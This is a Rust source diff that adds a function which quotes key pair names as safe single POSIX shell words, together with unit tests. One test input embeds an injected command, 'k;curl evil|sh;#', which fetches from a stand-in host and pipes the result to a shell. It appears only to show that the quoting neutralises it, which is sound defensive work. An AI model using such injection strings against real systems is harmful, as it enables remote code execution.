@@ -101,3 +101,28 @@ impl Shell {
         self.region == region
     }
 }
+
+/// `text` as one word for a POSIX shell, for the command lines the pages show: as it is when
+/// it is plain, otherwise in single quotes. A key pair's name may hold any printable
+/// character; a line pasted into a terminal must not run part of it.
+pub fn shell_word(text: &str) -> String {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "._-/@%+=:,".contains(c);
+    if !text.is_empty() && text.chars().all(plain) {
+        text.to_owned()
+    } else {
+        format!("'{}'", text.replace('\'', r"'\''"))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::shell_word;
+
+    #[test]
+    fn names_become_one_shell_word() {
+        assert_eq!(shell_word("web-1.pem"), "web-1.pem");
+        assert_eq!(shell_word("k;curl evil|sh;#.pem"), "'k;curl evil|sh;#.pem'");
+        assert_eq!(shell_word("it's.pem"), r"'it'\''s.pem'");
+        assert_eq!(shell_word(""), "''");
+    }
+}
